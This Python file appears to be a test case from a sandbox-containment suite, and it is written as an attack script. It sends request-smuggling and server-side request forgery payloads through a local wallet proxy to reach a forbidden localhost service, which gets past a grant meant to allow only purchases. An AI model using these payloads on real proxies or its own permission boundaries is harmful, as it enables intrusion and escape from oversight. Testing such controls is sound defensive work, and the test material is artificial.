"""Reach a host through the wallet's door, past the one thing that is granted.

origin: request smuggling, CWE-444, and server-side request forgery, CWE-918
why: the grant to buy is a way to a proxy, and a proxy can reach everything
control: succeeds
harm: stage
grants: buy:shop.invalid
"""

import socket


def attack(target):
    goal = f"127.0.0.1:{target['tcp']}"
    order = '{"call_id":"x","url":"http://%s/","max_price":"1"}' % goal
    wallet = "POST http://wallet.mayfly/buy HTTP/1.1\r\nContent-Length: "
    texts = [
        f"GET http://{goal}/ HTTP/1.1\r\n\r\n",
        f"CONNECT {goal} HTTP/1.1\r\n\r\n",
        f"POST http://wallet.mayfly@{goal}/buy HTTP/1.1\r\nContent-Length: 0\r\n\r\n",
        f"{wallet}0\r\n\r\nGET http://{goal}/ HTTP/1.1\r\n\r\n",
        f"{wallet}{len(order)}\r\nHost: {goal}\r\n\r\n{order}",
    ]
    seen = ""
    for port, text in [(3128, text) for text in texts] + [(target["tcp"], "direct")]:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=2) as door:
                door.sendall(text.encode())
                seen = door.recv(4096).decode("latin-1")
        except OSError as error:
            seen = str(error)
    return nothing(f"at last the door said {seen[:40]!r}")
